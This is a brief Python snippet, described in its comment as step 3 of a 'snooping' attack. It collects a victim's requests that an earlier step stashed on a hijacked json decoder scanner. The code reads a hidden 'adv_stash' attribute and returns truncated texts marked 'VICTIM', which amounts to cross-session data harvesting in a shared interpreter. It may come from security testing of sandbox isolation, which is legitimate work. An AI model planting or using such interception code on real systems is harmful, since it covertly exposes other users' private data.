# Snooping, step 3: collect the victim's request that the wrapped scanner of step 1 kept.
def f():
    import json
    return [text[:160] for text in getattr(json._default_decoder, 'adv_stash', []) if 'VICTIM' in text]
